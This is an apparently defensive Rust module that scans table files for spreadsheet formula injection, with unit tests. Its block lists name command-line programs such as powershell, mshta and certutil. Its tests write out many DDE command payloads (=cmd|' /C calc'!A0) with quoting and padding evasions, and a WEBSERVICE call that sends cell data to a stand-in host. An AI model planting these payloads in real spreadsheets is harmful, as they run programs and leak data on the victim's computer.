//! Which cells of a table are formulas.
//!
//! A sheet program runs a cell that starts with `=`, `+`, `-` or `@`. A number, a telephone
//! number, a handle or a dash start like that too, so a cell counts only where the rest of it is
//! a formula: a call, a reference or a command.

use super::decode;
use crate::{Budget, Notes, Severity, Unscannable};

/// More of a cell is not looked at.
const CELL_BYTES_MAX: usize = 2000;
const LEAD_BYTES_MAX: usize = 200;

/// Looks at the cells of a table (comma, semicolon, tab or pipe).
pub fn check(text: &str, notes: &mut Notes, budget: &mut Budget) -> Result<(), Unscannable> {
    let mut quoted = false;
    for (number, line) in text.split(['\n', '\r']).enumerate() {
        budget.charge(line.len() as u64 + 1)?;
        let bytes = line.as_bytes();
        // A quoted cell goes on from the line before: what stands here is text, unless it commands.
        budget.charge(look(line, 0, quoted, number, notes))?;
        let mut at = 0;
        if !quoted && bytes.first() == Some(&b'"') {
            quoted = true;
            at = 1;
        }
        while let Some(found) = memchr_mark(&bytes[at..]) {
            let mark = at + found;
            at = mark + 1;
            if bytes[mark] == b'"' {
                // A doubled quote closes and opens again.
                quoted = false_if_open(quoted, bytes, mark);
                continue;
            }
            budget.charge(look(line, at, quoted, number, notes))?;
            if !quoted && bytes.get(at) == Some(&b'"') {
                quoted = true;
                at += 1;
            }
        }
    }
    Ok(())
}

fn memchr_mark(bytes: &[u8]) -> Option<usize> {
    bytes
        .iter()
        .position(|b| matches!(b, b',' | b';' | b'\t' | b'|' | b'"'))
}

/// The state behind a quote within a cell: only an open cell can be closed, and one that was
/// closed by the quote before is opened again.
fn false_if_open(quoted: bool, bytes: &[u8], mark: usize) -> bool {
    let reopened = !quoted && mark > 0 && bytes[mark - 1] == b'"';
    !quoted && reopened
}

/// Looks at the cell that begins at `at`. Within quotes only a command counts. Says for how many
/// bytes that is to be paid: a cell without an end is looked at far past the next mark.
fn look(line: &str, at: usize, quoted: bool, number: usize, notes: &mut Notes) -> u64 {
    let Some(rest) = line.get(at..) else { return 1 };
    let rest = decode::head(rest, 2 * CELL_BYTES_MAX);
    let hidden = |c: char| {
        c.is_whitespace()
            || c.is_control()
            || matches!(c, '"' | '\u{feff}' | '\u{200b}'..='\u{200f}' | '\u{2060}')
    };
    // Behind more padding than this no sheet program looks for a formula.
    let lead = decode::head(rest, LEAD_BYTES_MAX);
    let padding = lead.len() - lead.trim_start_matches(hidden).len();
    let cell = &rest[padding..];
    if padding == lead.len() {
        return 1;
    }
    let Some(first) = cell.chars().next() else {
        return 1;
    };
    let wide = matches!(
        first,
        '＝' | '＋' | '－' | '＠' | '﹦' | '﹢' | '﹣' | '﹫' | '−'
    );
    if !wide && !matches!(first, '=' | '+' | '-' | '@') {
        return 1;
    }
    let body = decode::head(&cell[first.len_utf8()..], CELL_BYTES_MAX);
    if matches!(first, '+' | '-') && is_number(body) {
        return 1;
    }
    let paid = 16 * body.len().max(1) as u64;
    let Some((severity, rule, message)) = judge(first, wide, body) else {
        return paid;
    };
    if !quoted || severity == Severity::Malicious {
        notes.find(rule, severity, format!("line {}", number + 1), message);
    }
    paid
}

/// Whether the cell is a number and ends: most cells with a sign are.
fn is_number(body: &str) -> bool {
    let part = |b: &u8| b.is_ascii_digit() || matches!(b, b'.' | b'e' | b'E' | b'-');
    let length = body.bytes().take_while(part).count();
    let behind = body.as_bytes().get(length);
    length > 0 && behind.is_none_or(|b| matches!(b, b',' | b';' | b'\t' | b'"'))
}

type Judgement = (Severity, &'static str, &'static str);

fn judge(first: char, wide: bool, body: &str) -> Option<Judgement> {
    let lower = body.to_ascii_lowercase();
    let bare: String = lower.chars().filter(|c| !c.is_whitespace()).collect();
    if command(&bare) {
        let severity = if wide {
            Severity::Suspicious
        } else {
            Severity::Malicious
        };
        return Some((
            severity,
            "csv.command",
            "a cell starts a program when the table is opened in a sheet",
        ));
    }
    let reaches = [
        "hyperlink(",
        "webservice(",
        "importxml(",
        "importdata(",
        "importhtml(",
        "importfeed(",
        "importrange(",
        "image(",
        "filterxml(",
        "rtd(",
        "sql.request(",
        "encodeurl(",
        "googlefinance(",
        "query(",
        "stockhistory(",
    ];
    if reaches.iter().any(|name| calls(&bare, name)) {
        return Some((
            Severity::Suspicious,
            "csv.reaches_out",
            "a cell sends data or opens an address when the table is opened in a sheet",
        ));
    }
    let outside = bare.starts_with("'\\\\")
        || bare.starts_with("\\\\")
        || bare.contains("]sheet") && bare.contains("http")
        || bare.starts_with("'file:")
        || bare.starts_with("'http");
    if outside && first == '=' {
        return Some((
            Severity::Suspicious,
            "csv.reaches_out",
            "a cell refers to a file elsewhere",
        ));
    }
    (formula(first, wide, body)).then_some((
        if wide {
            Severity::Suspicious
        } else {
            Severity::Active
        },
        "csv.formula",
        "a cell is a formula",
    ))
}

/// A call of a function, not the end of a longer name.
fn calls(text: &str, name: &str) -> bool {
    text.match_indices(name)
        .any(|(at, _)| !text[..at].ends_with(|c: char| c.is_ascii_alphanumeric() || c == '_'))
}

/// Dynamic data exchange (`program|'topic'!item`), and calls that run code.
fn command(bare: &str) -> bool {
    let exchange = bare.find('|').is_some_and(|bar| {
        let program = bare[..bar].trim_end_matches(['\'', '"']);
        let named = program.ends_with(|c: char| c.is_ascii_alphanumeric());
        let topic = &bare[bar + 1..];
        named
            && topic.contains('!')
            && (topic.starts_with(['\'', '"', '/'])
                || topic.contains("'!")
                || topic.contains("\"!"))
    });
    let programs = [
        "cmd|",
        "cmd.exe|",
        "powershell|",
        "mshta|",
        "rundll32|",
        "regsvr32|",
        "msexcel|",
        "wscript|",
        "cscript|",
        "certutil|",
        "bitsadmin|",
    ];
    let runs = [
        "dde(",
        "ddeauto",
        "call(\"",
        "exec(\"",
        "register(\"urlmon",
        "register.id(",
        "shell(",
    ];
    exchange
        || programs.iter().any(|program| bare.contains(program))
        || runs.iter().any(|call| calls(bare, call))
}

/// Whether a sheet would compute it.
fn formula(first: char, wide: bool, body: &str) -> bool {
    let trimmed = body.trim_start().trim_end_matches(['"', ' ']);
    let word: usize = trimmed
        .bytes()
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'$'))
        .count();
    let name = &trimmed[..word];
    let after = trimmed[word..].trim_start();
    let function = after.starts_with('(')
        && name.len() >= 2
        && name
            .bytes()
            .all(|b| b.is_ascii_uppercase() || matches!(b, b'.' | b'0'..=b'9'))
        && name.starts_with(|c: char| c.is_ascii_uppercase());
    let reference = name.starts_with(|c: char| c.is_ascii_uppercase() || c == '$')
        && name.ends_with(|c: char| c.is_ascii_digit())
        && name.bytes().filter(u8::is_ascii_alphabetic).count() <= 3
        && (first == '='
            && (after.is_empty() || after.starts_with(['+', '-', '*', '/', ':', ',']))
            || after.starts_with(['+', '*', '/', ':', '!']));
    let sum = first == '='
        && name.starts_with(|c: char| c.is_ascii_digit())
        && after.starts_with(['+', '-', '*', '/', '^']);
    let nested = matches!(first, '=' | '+' | '-' | '@')
        && trimmed.starts_with(['+', '-', '@', '='])
        && trimmed.len() > 1
        && !trimmed.starts_with("==")
        && !trimmed.starts_with("--")
        && formula('=', false, &trimmed[1..]);
    function
        || reference
        || sum
        || nested
        || (wide
            && first != '−'
            && first != '－'
            && name.len() > 3
            && after.starts_with(['(', '|', '+']))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Limits;

    #[test]
    fn a_row_of_endless_formulas_is_paid_for() {
        let mut budget = Budget::new(crate::Limits {
            wall: std::time::Duration::from_millis(50),
            ..crate::Limits::default()
        });
        let end = check(&",=".repeat(100_000), &mut Notes::default(), &mut budget);
        assert_eq!(end, Err(Unscannable::Timeout));
    }

    fn worst(text: &str) -> Option<Severity> {
        let mut notes = Notes::default();
        check(text, &mut notes, &mut Budget::new(Limits::default())).expect("small");
        notes.worst()
    }

    #[test]
    fn plain_cells_are_left_alone() {
        for cell in [
            "-",
            "--",
            "-1",
            "-1.5e-3",
            "+49 170 1234567",
            "+1 (555) 123-4567",
            "@ana",
            "@bo_b",
            "-inf",
            "+inf",
            "-nan",
            "=",
            "==",
            "=> next",
            "-12 %",
            "- item",
            "-foo",
            "+ added (see below)",
            "@home (work)",
            "=)",
            "x = y + 1",
            "-A",
            "+B",
            "--- a/x.txt",
            "-$5.00",
            "\"-1,5\"",
            "'=SUM(A1)",
            "−5",
            "－",
            "-(n)",
            "+C/-",
            "@override",
            "a|b",
            "\"text, -x\"",
            "+0.5|-0.5",
            "-3-4",
            "+/-5",
            "=-=",
        ] {
            assert_eq!(worst(&format!("a,b\n1,{cell}\n")), None, "{cell}");
        }
    }

    #[test]
    fn commands_are_malicious_however_they_are_quoted() {
        for cell in [
            "=cmd|' /C calc'!A0",
            "\"=cmd|' /C calc'!A0\"",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\"@SUM(1+1)*cmd|' /C calc'!A0\"",
            "\t=cmd|' /C calc'!A0",
            "\"\t=cmd|' /C calc'!A0\"",
            "\"\r=cmd|' /C calc'!A0\"",
            "\"\n=cmd|' /C calc'!A0\"",
            " =cmd|' /C calc'!A0",
            "\u{feff}=cmd|' /C calc'!A0",
            "\"\"=cmd|' /C calc'!A0",
            "=CMD|'/c calc'!A0",
            "=MSEXCEL|'\\..\\..\\calc.exe'!x",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "=powershell|'-c x'!A1",
            "=foo|'bar'!baz",
            "\"x\",=cmd|'/C x'!A0",
            "\u{200b}=cmd|' /C calc'!A0",
            "=1+EXEC(\"calc\")",
            "=+-+cmd|'/C x'!A0",
        ] {
            for delimiter in [",", ";", "\t", "|"] {
                assert_eq!(
                    worst(&format!("a{delimiter}b\n1{delimiter}{cell}\n")),
                    Some(Severity::Malicious),
                    "{cell}"
                );
            }
        }
    }

    #[test]
    fn reaching_out_is_suspicious_and_arithmetic_is_active() {
        for cell in [
            "=HYPERLINK(\"http://x\",\"y\")",
            "\"=WEBSERVICE(\"\"http://x\"\"&A1)\"",
            "=IMPORTXML(\"http://x\",\"//a\")",
            "+IMAGE(\"http://x\")",
            "＝cmd|'/C x'!A0",
            "='\\\\host\\share\\[a.xls]S'!A1",
        ] {
            assert_eq!(
                worst(&format!("1,{cell}\n")),
                Some(Severity::Suspicious),
                "{cell}"
            );
        }
        for cell in [
            "=SUM(A1:A3)",
            "=A1+B2",
            "=1+1",
            "@SUM(1)",
            "+A1+B1",
            "=-A1+2",
        ] {
            assert_eq!(
                worst(&format!("1,{cell}\n")),
                Some(Severity::Active),
                "{cell}"
            );
        }
    }
}
